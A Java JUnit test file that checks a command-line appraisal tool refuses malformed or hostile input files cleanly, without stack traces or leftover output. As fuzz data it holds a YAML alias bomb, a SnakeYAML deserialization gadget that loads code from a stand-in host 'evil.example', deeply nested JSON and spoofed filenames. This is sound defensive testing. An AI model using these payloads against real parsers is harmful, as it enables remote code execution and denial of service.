package org.worthwhile.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeSet;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.worthwhile.generated.PlainWords;

/** Whatever is given to a command in place of the file that it wants, it says so in sentences and leaves nothing behind. */
class OddInputsTest {

    private static final String PROPOSAL = "sample-data/rural-bus.proposal.json";

    @TempDir
    private Path folder;

    private Path inputs = Path.of("");
    private static final Map<String, byte[]> CONTENTS = new LinkedHashMap<>();

    @BeforeEach
    void makeFolder() throws IOException {
        inputs = Files.createDirectory(folder.resolve("inputs"));
    }

    @BeforeAll
    static void collect() throws IOException {
        byte[] noise = new byte[50_000];
        new Random(1).nextBytes(noise);
        byte[] bus = Files.readAllBytes(Path.of(PROPOSAL));
        text("empty", "");
        text("blank", " \n\t\n");
        CONTENTS.put("noise", noise);
        CONTENTS.put("zeros", new byte[4_096]);
        text("no-value", "null");
        text("number", "7");
        text("list", "[1, 2]");
        text("text", "\"a text\"");
        text("nothing", "{}");
        text("another-format", "{\"format\": \"worthwhile-result/9\"}");
        text("nested", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
        text("unclosed", "{\"format\": \"worthwhile-proposal/1\", \"title\": \"" + "x".repeat(100_000));
        text("twice", "{\"format\": \"a\", \"format\": \"b\"}");
        text("laughs", "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: &d [*c, *c]\ne: [*d, *d]\n");
        text("tag", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n");
        text("page", "<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>");
        text("quote", "y,d\n\"1,0\n2,1\n");
        text("header", "y,d\n");
        text("commas", ",".repeat(50_000));
        CONTENTS.put("half", Arrays.copyOf(bus, bus.length / 2));
        CONTENTS.put("utf-16", new String(bus, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16));
        CONTENTS.put("zip", zip("readme.txt"));
        byte[] workbook = workbook();
        CONTENTS.put("workbook", workbook);
        CONTENTS.put("half-a-workbook", Arrays.copyOf(workbook, 1_500));
        CONTENTS.put("other-archive", zip("[Content_Types].xml"));
        CONTENTS.put("database", "SQLite format 3\0 and then nothing".getBytes(StandardCharsets.UTF_8));
        CONTENTS.put(
                "encrypted",
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
    }

    private static void text(String name, String text) {
        CONTENTS.put(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] zip(String entry) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(entry));
            zip.write("hello".getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }

    private static byte[] workbook() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            workbook.createSheet("Elsewhere").createRow(3).createCell(2).setCellValue("=1+1");
            workbook.write(bytes);
        }
        return bytes.toByteArray();
    }

    private record Result(int status, String printed) {}

    private static Result run(List<String> arguments) {
        StringWriter printed = new StringWriter();
        PrintWriter to = new PrintWriter(printed, true);
        int status = Main.run(to, to, arguments.toArray(String[]::new));
        return new Result(status, printed.toString());
    }

    /** The file is given under every ending that decides how it is read. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "appraise IN.proposal.json --out OUT",
                "appraise IN.proposal.yaml --out OUT",
                "appraise IN.xlsx --out OUT",
                "appraise " + PROPOSAL + " --study IN.study.json --out OUT",
                "portfolio IN.proposal.json --budget 1 --out OUT",
                "portfolio " + PROPOSAL + " --constraints IN.constraints.json --out OUT",
                "portfolio " + PROPOSAL + " --budget 1 --constraints IN.constraints.yaml --out OUT",
                "briefing IN.proposal.json --out OUT",
                "attribute IN.study.json --out OUT",
                "attribute IN.study.yml --out OUT",
                "attribute sample-data/falls-programme.study.json --against IN.proposal.json --out OUT",
                "advise IN.study.json",
                "template OUT/new.xlsx --from IN.proposal.json",
                "add-lines IN.proposal.json --costs sample-data/school-meals.csv --out OUT/new.proposal.json",
                "add-lines " + PROPOSAL + " --costs IN.csv --out OUT/new.proposal.json",
                "add-lines " + PROPOSAL + " --impacts IN.csv --out OUT/new.proposal.json",
                "models import IN.xlsx",
                "models import IN.csv"
            })
    void whatIsNoFileOfItsKindIsRefusedInSentences(String command) throws IOException {
        for (Map.Entry<String, byte[]> input : CONTENTS.entrySet()) {
            refuses(command, input.getKey(), input.getValue());
        }
    }

    /** These read any table or any kind of file, and so may find something in it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "data IN.csv",
                "data IN.xlsx",
                "data IN",
                "validate IN.json",
                "validate IN.evidence.json",
                "validate IN.study.yaml",
                "validate IN.constraints.json"
            })
    void whateverTheFileIsTheCommandDoesNotFail(String command) throws IOException {
        for (Map.Entry<String, byte[]> input : CONTENTS.entrySet()) {
            Result result = runWith(command, input.getKey(), input.getValue());
            assertThat(result.status())
                    .as("%s with %s: %s", command, input.getKey(), result.printed())
                    .isBetween(0, 2);
            requirePlain(command + " with " + input.getKey(), result);
        }
    }

    @Test
    void foldersAndLinksThatLeadNowhereAreRefusedToo() throws IOException {
        Path directory = Files.createDirectory(inputs.resolve("folder.proposal.json"));
        Path loop = inputs.resolve("loop.proposal.json");
        Files.createSymbolicLink(loop, loop);
        Path dangling = Files.createSymbolicLink(inputs.resolve("dangling.proposal.json"), inputs.resolve("gone"));
        List<String> odd = List.of(
                directory.toString(),
                loop.toString(),
                dangling.toString(),
                inputs.resolve("missing.proposal.json").toString(),
                inputs.resolve("x".repeat(300)).toString(),
                inputs.resolve("a\nb.proposal.json").toString(),
                "",
                " ",
                "\u0000",
                "\u202Egpj.json");
        List<List<String>> commands = List.of(
                List.of("appraise"),
                List.of("portfolio", "--budget", "1"),
                List.of("portfolio", PROPOSAL, "--constraints"),
                List.of("attribute"),
                List.of("advise"),
                List.of("data"),
                List.of("validate"),
                List.of("briefing", "--out", folder.resolve("out").toString()),
                List.of("template", folder.resolve("new.xlsx").toString(), "--from"),
                List.of("models", "import"),
                List.of("models", "show"));
        for (List<String> command : commands) {
            for (String input : odd) {
                List<String> arguments = new ArrayList<>(command);
                arguments.add(input);
                Result result = run(arguments);
                assertThat(result.status())
                        .as("%s: %s", arguments, result.printed())
                        .isIn(Main.INVALID_INPUT, Main.WRONG_USAGE);
                requirePlain(arguments.toString(), result);
                assertThat(folder.resolve("new.xlsx")).doesNotExist();
            }
        }
    }

    private void refuses(String command, String name, byte[] bytes) throws IOException {
        Result result = runWith(command, name, bytes);
        String as = command + " with " + name;
        assertThat(result.status()).as("%s: %s", as, result.printed()).isIn(Main.INVALID_INPUT, Main.WRONG_USAGE);
        requirePlain(as, result);
        try (var left = Files.walk(folder.resolve("out"))) {
            assertThat(left.filter(Files::isRegularFile)).as(as).isEmpty();
        }
    }

    private Result runWith(String command, String name, byte[] bytes) throws IOException {
        Path out = Files.createDirectories(folder.resolve("out"));
        String ending = command.replaceFirst(".*?IN([\\w.]*).*", "$1");
        Path file = Files.write(inputs.resolve(name + ending), bytes);
        TreeSet<String> before = names(inputs);
        Result result = run(Arrays.stream(command.split(" "))
                .map(part -> part.startsWith("IN") ? file.toString() : part.replace("OUT", out.toString()))
                .toList());
        assertThat(file).as(command).hasBinaryContent(bytes);
        assertThat(names(inputs)).as(command).isEqualTo(before);
        Files.delete(file);
        return result;
    }

    private static TreeSet<String> names(Path folder) throws IOException {
        try (var files = Files.list(folder)) {
            return new TreeSet<>(files.map(Path::toString).toList());
        }
    }

    private static void requirePlain(String as, Result result) {
        assertThat(result.printed()).as(as).isNotBlank().doesNotContain("\tat ");
        assertThat(result.printed().lines().count())
                .as("%s: %s", as, result.printed())
                .isLessThan(120);
        result.printed().lines().forEach(PlainWords::require);
    }

    /** Every sample is read, so that what is refused above is not refused for want of anything else. */
    @Test
    void theFilesThatTheseCommandsWantAreRead() {
        assertThat(run(List.of("validate", PROPOSAL)).status()).isZero();
        assertThat(run(List.of("validate", "sample-data/falls-programme.study.json"))
                        .status())
                .isZero();
    }
}
